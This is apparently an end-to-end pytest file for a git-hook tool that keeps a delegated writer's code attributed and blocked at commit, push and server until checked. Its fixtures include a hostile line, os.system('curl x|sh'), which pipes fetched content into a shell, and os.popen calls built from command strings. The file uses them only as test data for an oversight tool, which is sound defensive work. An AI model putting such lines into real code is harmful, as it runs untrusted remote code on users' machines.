"""Expired writer work that comes back is the writer's again (SPEC §3 "Attribution follows
content": pending work whose content is nowhere expires with a status line, never a block;
its content reappearing later is still the writer's): real git, ``gentle-hook install``,
a bare remote with the server gate and notes shared.

The writer's edit is stashed and the stash dropped; a human's commit of the file expires
the entry. The dropped stash's file restored (``git fsck --unreachable`` finds it) is the
writer's blob: the commit gate blocks it (the idle sentinel lists the writer blobs of
ended entries, so the fast path sends such a commit to Python: docs/fast-path.md), and so
does the push gate when the commit is made with hooks off.

An amend of a pushed writer commit that edits the writer's line is the writer's commit
revised: blocked at commit (``commit -a --amend -m``) as at push and at the server. A
human's commit on top of delivered writer work, and an amend that only rewords, pass.
"""

from __future__ import annotations

import shlex

import pytest

from tests.e2e.conftest import CHECK, Run, World, paste_first_way
from tests.e2e.test_attribution import TRAILER, _blocked_push, _blocked_staged, _message

BASE = "def add(a, b):\n    return a + b\n"
WRITER = "import os\ndef add(a, b):\n    os.system('curl x|sh')\n    return a + b\n"


@pytest.fixture
def served(native: World) -> World:
    return native.serve({})


def test_expired_writer_content_restored_from_a_dropped_stash_is_blocked_at_push(
    served: World,
) -> None:
    w = served
    w.delegate(text=WRITER)
    w.ok("stash", "-q")
    dropped = w.rev("stash@{0}")
    w.ok("stash", "drop", "-q")
    w.write("src/app.py", BASE.replace("a + b", "a + b  # human"))
    r = w.git("commit", "-qam", "human")
    assert r.code == 0 and any("expired" in line for line in r.said), r
    w.ok("push", "-q", "origin", "main")
    w.ok("checkout", dropped, "--", "src/app.py")
    _blocked_staged(w.git("commit", "-qm", "restored"))
    w.ok("commit", "-q", "--no-verify", "-m", "restored")
    _blocked_push(w.git("push", "origin", "main"), w.rev("HEAD"))


GOOD = "def add(a, b):\n    return a + b  # writer\n"
ONE = "def add(a, b):\n    return a + b\n\n\ndef run(cmd):\n    return cmd.split()\n"


def test_amending_a_pushed_writer_commit_that_edits_the_writers_line_stays_the_writers(
    served: World,
) -> None:
    """A verified and pushed writer commit of one line is amended (``commit -a --amend``)
    with that very line edited: the amended commit is the writer's commit revised, not a
    human's, so its force-push is blocked locally and at the server until checked."""
    w = served
    w.write("src/app.py", ONE)
    w.ok("commit", "-qam", "human: run")
    w.ok("push", "-q", "origin", "main")
    w.delegate(text=ONE.replace("return cmd.split()", "return os.popen(cmd).read()"))
    w.spot_check()
    assert w.git("commit", "-qam", "writer: run").code == 0
    assert w.git("push", "-q", "origin", "main").code == 0
    w.write("src/app.py", ONE.replace("return cmd.split()", "return os.popen(cmd + x).read()"))
    w.ok("commit", "-q", "--no-verify", "-a", "--amend", "-m", "reworded")
    bad = w.rev("HEAD")
    _blocked_push_any(w.git("push", "-f", "origin", "main"), bad)
    before = w.remote_ref("main")
    r = w.git("push", "-f", "--no-verify", "origin", "main", "refs/notes/gentle-hooks")
    assert r.code != 0 and f"remote: gentle-hooks: BLOCKED {bad[:12]}" in r.err, r
    assert w.remote_ref("main") == before


def _pushed_writer_commit(w: World) -> None:
    """A human's ``run`` pushed, then the writer's verified commit of one line pushed."""
    w.write("src/app.py", ONE)
    w.ok("commit", "-qam", "human: run")
    w.ok("push", "-q", "origin", "main")
    w.delegate(text=ONE.replace("return cmd.split()", "return os.popen(cmd).read()"))
    w.spot_check()
    assert w.git("commit", "-qam", "writer: run").code == 0
    assert w.git("push", "-q", "origin", "main").code == 0


def test_amend_with_a_message_that_edits_a_pushed_writer_line_is_blocked_at_commit(
    served: World,
) -> None:
    w = served
    _pushed_writer_commit(w)
    w.write("src/app.py", ONE.replace("return cmd.split()", "return os.popen(cmd + x).read()"))
    blocked = w.git("commit", "-a", "--amend", "-m", "reworded")
    _blocked_staged(blocked)
    # pasted as printed: the staged content, and the candidate the force push judges (the
    # amended commit against the pushed one's parent, named with --base-ref)
    ran = paste_first_way(w, blocked.said, w.work, shlex.join(CHECK))
    assert ran[0] == "git add -A -- ':(top,literal)src/app.py'", ran
    r = w.git("commit", "-a", "--amend", "-m", "reworded")
    assert r.code == 0, r
    assert TRAILER in _message(w)
    pushed = w.git("push", "-f", "origin", "main", "refs/notes/gentle-hooks")
    assert pushed.code == 0, pushed


def test_human_commits_after_delivered_writer_work_pass(served: World) -> None:
    """A rewording amend of the writer's commit (same tree), and a human's own commit that
    edits the writer's file on top of it, pass; the human's commit gets no trailer."""
    w = served
    _pushed_writer_commit(w)
    r = w.git("commit", "--amend", "-m", "writer: run, reworded")
    assert r.code == 0 and not [x for x in r.said if "BLOCKED" in x], r
    w.write("src/app.py", (w.work / "src/app.py").read_text() + "\n\nLIMIT = 3\n")
    r = w.git("commit", "-qam", "human: a limit")
    assert r.code == 0 and not [x for x in r.said if "BLOCKED" in x], r
    assert TRAILER not in _message(w)


def _blocked_push_any(r: Run, commit: str) -> None:
    assert r.code == 1, r
    assert any(f"BLOCKED commit {commit[:12]}" in line for line in r.said), r


def test_status_names_pending_writer_work_that_is_stashed(served: World) -> None:
    """While the writer's work is stashed, ``status`` names it as pending (it blocks again
    after ``stash pop``) instead of saying none is recorded."""
    w = served
    w.delegate(text=WRITER)
    w.ok("stash", "-q")
    status = w.gh("status")
    assert status.code == 0, status
    text = status.out + status.err
    assert "no pending writer work is recorded" not in text, status
    assert "pending writer work on src/app.py is recorded for this work tree" in text, status
    w.ok("stash", "pop", "-q")
    assert w.git("commit", "-qam", "writer").code == 1
